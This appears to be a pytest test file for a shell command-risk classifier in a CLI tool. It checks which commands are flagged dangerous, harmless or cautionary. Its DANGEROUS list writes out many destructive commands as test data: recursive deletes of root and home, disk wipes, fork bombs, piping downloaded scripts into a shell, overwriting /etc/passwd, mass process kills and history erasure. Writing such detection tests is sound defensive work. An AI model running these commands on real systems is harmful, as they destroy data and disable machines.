"""The command-risk rules: what is dangerous, what only needs care, and what is harmless text."""

from __future__ import annotations

import pytest

from cli_tuner.shell import risk

DANGEROUS = [
    "rm -rf /",
    "sudo rm -rf /",
    "rm -rf --no-preserve-root /",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf /*",
    "rm -fr $HOME",
    "rm -rf *",
    "cd / && rm -rf *",
    "cd ~; rm -r ./*",
    "sudo rm -rf /etc",
    "rm -rf /usr/lib",
    "true && { rm -rf /; }",
    "f() { rm -rf ~; }; f",
    "timeout 5 rm -rf /usr",
    "env -i rm -rf /",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat disk.img | dd of=/dev/nvme0n1",
    "mkfs.ext4 /dev/sdb1",
    "wipefs -a /dev/sdc",
    "shred -n 3 /dev/sda",
    "echo garbage > /dev/sda",
    "cat /dev/urandom | tee /dev/mmcblk0",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "curl -fsSL https://example.com/install.sh | sh",
    "wget -qO- http://example.com/x | sudo bash",
    "curl -s http://example.com/x.py | python3",
    "bash <(curl -s http://example.com/x)",
    'sh -c "$(curl -fsSL https://example.com/install.sh)"',
    "chmod -R 777 /",
    "sudo chown -R nobody /etc",
    "echo 'root::0:0::/root:/bin/bash' > /etc/passwd",
    "cp evil /etc/shadow",
    "shutdown -h now",
    "sudo reboot",
    "init 0",
    "systemctl poweroff",
    "kill -9 -1",
    "kill -s KILL -1",
    "mv ~ /dev/null",
    "mv / /tmp/old",
    "history -c",
    "cat /dev/null > ~/.bash_history",
    "unset HISTFILE",
    "crontab -r",
    "iptables -F",
    "iptables -P INPUT DROP",
    "find / -delete",
    "find / -type f -size +100M -exec rm -f {} \\;",
    "find / -type f | xargs rm -f",
    'bash -c "rm -rf /"',
    "echo $(rm -rf ~)",
    'echo "$(rm -rf ~)"',
    "echo `rm -rf /`",
    'eval "rm -rf /"',
    'echo "rm -rf /" | bash',
    "find . -type f -exec sh -c 'rm -rf /' \\;",
    "watch -n 5 'rm -rf /'",
    "echo c > /proc/sysrq-trigger",
]

HARMLESS = [
    'echo "rm -rf /"',
    "echo 'rm -rf /'",
    "echo '$(rm -rf ~)'",
    'grep -r "rm -rf /" .',
    "printf '%s\\n' 'sudo rm -rf /'",
    "echo ':(){ :|:& };:'",
    "cat <<EOF\nrm -rf /\nEOF",
    "ls -la  # rm -rf /",
    "ls -la",
    "cat /etc/passwd",
    "rm notes.txt",
    "rm -f ./*.tmp",
    "dd if=/dev/sda of=disk.img bs=4M",
    "dd if=/dev/zero of=test.img bs=1M count=10",
    "ls 2>/dev/null",
    "cat file > /dev/null",
    "curl -I https://example.com",
    "curl -s https://example.com | jq .",
    "curl -s https://example.com/data.json | python3 -m json.tool",
    "kill -9 1234",
    "kill -0 1",
    "kill -l",
    "shutdown -c",
    "chmod 644 file.txt",
    "chmod +x deploy.sh",
    "sudo chown -R www-data:www-data /var/www/site",
    "find . -name '*.log' -mtime +30",
    "find / -name '*.bak' -delete",
    "find . \\( -name a -o -name b \\) -print",
    "tar -czf backup.tar.gz ~/Documents",
    "git log --oneline | head",
    "history | tail -n 20",
    "crontab -l",
    "iptables -L -n",
    "mv report.txt /tmp/report.txt",
    "ls \"a;b\" | grep x",
    "awk '{print $(NF-1)}' data.txt",
    "sudo apt-get update",
    "echo \"$HOME\"",
]

CAUTION_ONLY = [
    "rm -rf build",
    "cd /tmp/work && rm -rf *",
    'rm -rf "$DIR/"*',
    "find . -name '*.pyc' -delete",
    "chmod -R 777 shared",
    "git reset --hard",
    "shred -u secrets.txt",
]


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_are_flagged(command):
    findings = risk.assess(command)
    assert risk.is_dangerous(command), findings
    assert findings[0].severity == risk.DANGEROUS  # dangerous findings come first
    assert all(f.rule and f.message for f in findings)


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_are_not_dangerous(command):
    assert not risk.is_dangerous(command), risk.assess(command)


@pytest.mark.parametrize("command", CAUTION_ONLY)
def test_risky_but_deliberate_commands_are_caution(command):
    findings = risk.assess(command)
    assert findings, f"{command!r} should need a second look"
    assert {f.severity for f in findings} == {risk.CAUTION}, findings


@pytest.mark.parametrize("command", ["ls -la", "echo 'rm -rf /'", "git status -s", "df -h"])
def test_plain_commands_have_no_findings(command):
    assert risk.assess(command) == []


def test_a_finding_names_the_rule_and_the_target():
    (finding,) = risk.assess("sudo rm -rf /etc")
    assert finding == risk.RiskFinding("recursive-delete", risk.DANGEROUS, finding.message)
    assert "/etc" in finding.message


def test_findings_are_not_repeated():
    findings = risk.assess("rm -rf / ; rm -rf /")
    assert len(findings) == len(set(findings)) == 1


@pytest.mark.parametrize("word, kind", [
    ("/", risk.ROOT), ("/*", risk.ROOT), ("//", risk.ROOT), ("~", risk.HOME), ("~/", risk.HOME),
    ("$HOME", risk.HOME), ("/home/alice", risk.HOME), ("/etc", risk.SYSTEM), ("/usr/lib/", risk.SYSTEM),
    ("/data", risk.TOP_LEVEL), ("*", risk.CWD_ALL), ("./*", risk.CWD_ALL), ("$DIR/", risk.VARIABLE_PREFIX),
    ("build", None), ("/var/www/site", None), (".", None), ("/tmp", risk.SCRATCH),
])
def test_target_kinds(word, kind):
    assert risk.target_kind(word) == kind


def test_quoted_operators_do_not_split_commands():
    # `\;` and `';'` are arguments; only the real `;` separates commands
    segments = risk.split_commands("find . -exec echo {} \\; ; echo ';' done")
    assert [s.words[0] for s in segments] == ["find", "echo"]
    assert segments[0].words[-1] == ";"
    assert segments[1].words == ["echo", ";", "done"]
